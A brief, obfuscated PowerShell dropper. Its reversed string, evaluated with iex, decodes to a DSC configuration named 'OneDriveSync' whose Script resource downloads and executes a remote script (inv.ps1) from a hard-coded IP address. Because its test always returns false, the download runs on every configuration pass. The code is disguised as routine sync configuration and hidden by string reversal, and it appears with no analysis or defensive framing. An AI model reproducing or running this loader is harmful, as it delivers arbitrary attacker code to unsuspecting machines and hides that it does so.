$bfdxt='
}
}  
}    
} )''1sp.vni/32.001.15.891//:ptth''(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI { = tpircSteS      
} eslaf$ { = tpircStseT      
} } '''' = tluseR {@ { = tpircSteG      
{ partstooB tpircS    
{ tsohlacol edoN  
noitarugifnoCetatSderiseDSP emaNeludoM- ecruoseRcsD-tropmI  
{ cnySevirDenO noitarugifnoC
1v 2819 tini #'; iex (-join $bfdxt[-1..-($bfdxt.Length)])